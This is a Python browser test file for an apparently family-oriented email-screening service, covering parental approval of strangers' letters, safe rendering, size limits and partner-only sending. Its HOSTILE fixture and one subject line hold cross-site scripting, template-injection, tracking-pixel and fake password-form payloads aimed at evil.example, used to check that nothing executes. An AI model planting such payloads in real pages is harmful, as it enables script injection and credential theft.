"""As Anna on a small phone: a stranger's letter waits, she says always, it is in Emma's mailbox, and so is the next.

The family is the Rossis of the tests: Ada is Bo's mother, and Nonna is on his list.
"""

import re
import smtplib
import time
import uuid
from collections.abc import Callable
from email.message import EmailMessage

import pytest
from playwright.sync_api import Dialog, Page, ViewportSize, expect

from tests.host.family import provider
from tests.host.machine import wait_for
from tests.system.server import HOUSEHOLD, PASSWORD, Server

pytestmark = [pytest.mark.browser, pytest.mark.daemons, pytest.mark.timeout(300)]
ADA, BO = "ada@rossi.example", "bo@rossi.example"
ZIA = f"zia.{uuid.uuid4().hex[:6]}@example.org"  # nobody whom another test knows
SMALL: ViewportSize = {"width": 360, "height": 740}
SOON = 5.0  # seconds from an answer to the letter in the mailbox, on a machine with nothing else to do
BUSINESS = f"""
[[community]]
name = "Neri"
kind = "business"
domains = ["neri.example"]
[[community.contact]]
address = "@partner.example"
[[person]]
address = "gino@neri.example"
name = "Gino"
password = "{PASSWORD}"
[[person.membership]]
community = "Neri"
role = "member"
level = "partners"
[[mailbox]]
address = "gino@neri.example"
"""
HOSTILE = """<html><head><style>body { display: none } @import url(http://evil.example/x.css);</style>
<script>document.title = "taken"; alert(1)</script><meta http-equiv="refresh" content="0;url=http://evil.example/">
</head><body onload="alert(2)"><img src="http://evil.example/pixel.gif" onerror="alert(3)">
<form action="http://evil.example/"><input name="password"><button>Sign in</button></form>
<a href="javascript:alert(4)">Ciao Bo</a> {% load x %} {{ 7*7 }} &lt;b&gt;grasso&lt;/b&gt;</body></html>"""


def post(server: Server, subject: str, author: str = ZIA, *, html: str = "", more: int = 0) -> None:
    """A letter to Bo, signed by its author's provider."""
    letter = EmailMessage()
    letter["From"], letter["To"], letter["Subject"] = f'"Zia <b>Carla</b>" <{author}>', BO, subject
    letter.set_content("Ciao Bo, quanti anni compi?\n" + "x" * 70 + "\n" * more)
    if html:
        letter.add_alternative(html, subtype="html")
    raw = letter.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    with smtplib.SMTP("127.0.0.1", server.layout.smtp, timeout=60) as smtp:
        smtp.sendmail(author, [BO], provider(server.layout, author.partition("@")[2])(raw))


def waits(page: Page, subject: str, where: str = "/waiting/") -> None:
    """The letter is on the page of what waits, within a few seconds of its coming."""

    def seen() -> bool:
        page.goto(where)
        return page.get_by_text(subject).count() > 0

    wait_for(seen, f"“{subject}” on the page", 20)


def test_a_parent_says_always_and_the_letter_and_the_next_arrive(server: Server, visit: Callable[..., Page]) -> None:
    post(server, "Saluti uno")
    page = visit(ADA, size=SMALL)
    waits(page, "Saluti uno")
    assert "Saluti uno" not in server.subjects(BO)
    card = page.locator("article", has_text=ZIA)
    expect(card).to_contain_text("the provider confirms it")
    expect(card).to_contain_text("quanti anni compi")
    assert page.evaluate("document.documentElement.scrollWidth <= 360")
    began = time.monotonic()
    card.get_by_role("button", name=re.compile("^Always")).click()
    server.arrives(BO, "Saluti uno")
    took = time.monotonic() - began
    print(f"in the mailbox {took:.1f} s after always")  # the figure is kept in docs/measurements.md
    expect(page.locator("main")).not_to_contain_text("Saluti uno")
    post(server, "Saluti due")
    server.arrives(BO, "Saluti due")
    page.goto("/waiting/")
    expect(page.locator("main")).not_to_contain_text(ZIA)
    page.goto("/")
    page.get_by_role("link", name=re.compile(r"\d contacts")).first.click()
    expect(page.locator("main")).to_contain_text(ZIA)


def test_a_letter_that_would_run_something_runs_nothing(server: Server, visit: Callable[..., Page]) -> None:
    post(server, "</script><script>alert(5)</script> {{ 7*7 }}", "evil@example.org", html=HOSTILE)
    page = visit(ADA, size=SMALL)
    asked: list[str] = []
    opened: list[str] = []

    def close(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", close)
    waits(page, "evil@example.org", "/waiting/silent/")  # the filter takes it for advertising
    page.get_by_role("link", name="The letter").first.click()
    expect(page.locator("main")).to_contain_text("<script>alert(5)</script> {{ 7*7 }}")
    page.wait_for_load_state("networkidle")
    assert opened == []
    assert [url for url in asked if not url.startswith(server.url)] == []
    assert page.locator("main script, main style, main img, main iframe, main input[name=password]").count() == 0
    assert "taken" not in page.title()


def test_a_huge_letter_is_shown_by_its_beginning(server: Server, visit: Callable[..., Page]) -> None:
    post(server, "Cinque megabyte", "evil@example.org", more=5_000_000)
    page = visit(ADA, size=SMALL)
    waits(page, "Cinque megabyte")
    expect(page.locator("main")).to_contain_text("quanti anni compi")
    assert len(page.content()) < 300_000


def test_a_member_who_may_write_to_partners_is_told_so(server: Server) -> None:
    server.load(HOUSEHOLD + BUSINESS)
    with smtplib.SMTP("127.0.0.1", server.layout.submission, timeout=20) as smtp:
        smtp.login("gino@neri.example", PASSWORD)
        smtp.mail("gino@neri.example")
        code, text = smtp.rcpt("stranger@elsewhere.example")
        assert code in (550, 554)
        assert b"You may write to your own people and to listed partners only" in text
        assert smtp.rcpt("somebody@partner.example")[0] == 250
